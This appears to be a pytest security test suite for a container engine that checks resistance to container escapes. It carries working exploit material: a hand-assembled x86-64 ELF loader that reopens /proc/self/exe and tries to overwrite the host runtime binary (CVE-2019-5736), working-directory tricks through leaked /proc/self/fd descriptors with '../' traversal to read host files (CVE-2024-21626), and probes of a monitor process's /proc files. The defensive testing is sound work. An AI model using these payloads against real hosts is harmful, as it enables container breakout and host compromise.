"""The runtime program itself, while it is inside a container: its file, and what it has open of the host."""

from __future__ import annotations

import hashlib
import json
import platform
import struct
from collections.abc import Iterator
from pathlib import Path

import pytest

from support.hostile import OFF, File, Target, folder, link
from support.programs import need

pytestmark = pytest.mark.root

# The program interpreter that runtime programs of Debian name. In an image it is the attacker's.
LOADER = "lib64/ld-linux-x86-64.so.2"
WRITE = (
    "sha256sum < /proc/self/fd/9; i=0; while [ $i -lt 100 ]; do i=$((i+1));"
    " (echo broken > /proc/self/fd/9) 2>/dev/null && echo WRITTEN; done; true"
)


def _loader(script: str) -> bytes:
    """Return an ELF executable that opens its own /proc/self/exe as descriptor 9 and becomes a shell with `script`.

    Executed as the interpreter of a runtime program it has that program's file open (CVE-2019-5736).
    """
    texts = [b"/proc/self/exe\0", b"/bin/sh\0", b"-c\0", script.encode() + b"\0"]
    base, code_size = 0x10000, 96
    places, end = [], base + 120 + code_size
    for text in texts:
        places.append(end)
        end += len(text)
    exe, shell, option, command = places
    code = b"\x48\xbf" + struct.pack("<Q", exe) + b"\x31\xf6\x31\xd2\xb8\x02\0\0\0\x0f\x05"  # open(exe, O_RDONLY)
    code += b"\x89\xc7\xbe\x09\0\0\0\xb8\x21\0\0\0\x0f\x05"  # dup2(it, 9)
    code += b"\x6a\x00"  # push 0: the end of the arguments
    for place in (command, option, shell):
        code += b"\x48\xb8" + struct.pack("<Q", place) + b"\x50"  # push the address
    code += b"\x48\x89\xe6\x31\xd2\x48\xbf" + struct.pack("<Q", shell) + b"\xb8\x3b\0\0\0\x0f\x05"  # execve
    code = code.ljust(code_size, b"\xcc")
    body = code + b"".join(texts)
    head = b"\x7fELF\x02\x01\x01" + bytes(9)
    head += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, base + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    size = 120 + len(body)
    return head + struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 0x1000) + body


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def binary(either: Target) -> Iterator[Path]:
    """The runtime program's file on the host, which must stay as it is."""
    path = Path(need(Path(either.ask("GET", "/info").json["DefaultRuntime"]).name))
    before = _digest(path), path.stat().st_mtime_ns
    yield path
    assert (_digest(path), path.stat().st_mtime_ns) == before


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the loader is for x86-64")
@pytest.mark.parametrize("way", ["run", "exec", "build"])
def test_the_runtime_programs_file_is_not_written(either: Target, binary: Path, way: str) -> None:
    """What is executed is the runtime program, with a loader of the image: its own file is the image's to open."""
    members = [File(LOADER, _loader(WRITE)), File("evil", b"#!/proc/self/exe\n")]
    either.image("evil", members=[folder("lib64"), *members], without=["lib64"])
    if way == "run":
        said = either.cli("run", "--rm", *OFF, "evil", "/evil", check=False).stdout.decode()
    elif way == "exec":
        with either.running("exec sleep 300", image="evil") as id:
            said = either.cli("exec", id, "/evil", check=False).stdout.decode()
    else:
        said = either.build('FROM evil\nRUN ["/evil"]\n')
    assert _digest(binary) in said, f"the attack did not run: {said}"
    assert "WRITTEN" not in said


@pytest.mark.parametrize("way", ["run", "exec", "build"])
def test_no_working_directory_is_one_that_the_runtime_program_has_open(
    either: Target, tmp_path: Path, way: str
) -> None:
    """CVE-2024-21626: the number of a descriptor of the host as a working directory, by itself and behind a link."""
    (tmp_path / "secret").write_text("of the host")
    look = f"cat {'../' * 12}{tmp_path}/secret; true"
    either.image("ways", members=[link(f"fd{number}", f"/proc/self/fd/{number}") for number in range(3, 12)])
    with either.running("exec sleep 300", image="ways") as id:
        for number in range(3, 12):
            for place in (f"/proc/self/fd/{number}", f"/fd{number}"):
                if way == "run":
                    done = either.cli("run", "--rm", *OFF, "-w", place, "ways", "sh", "-c", look, check=False).stdout
                elif way == "exec":
                    done = either.cli("exec", "-w", place, id, "sh", "-c", look, check=False).stdout
                else:
                    done = either.build(f"FROM ways\nWORKDIR {place}\nRUN {look}\n").encode()
                assert b"of the host" not in done, place


def test_a_monitor_is_out_of_reach_of_a_container_that_sees_it(either: Target) -> None:
    """With the host's processes in sight, root in the container may not touch those of the engine."""
    with either.running("exec sleep 300", "--pid", "host") as id:
        pid = json.loads(either.cli.text("inspect", id))[0]["State"]["Pid"]
        monitor = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
        assert "lamina" in Path(f"/proc/{monitor}/comm").read_text()
        for name in ("exe", "root/etc/passwd", "cwd", "fd/0", "mem", "environ", "maps"):
            done = either.cli("exec", id, "sh", "-c", f"true < /proc/{monitor}/{name}", check=False)
            assert b"ermission denied" in done.stderr, name
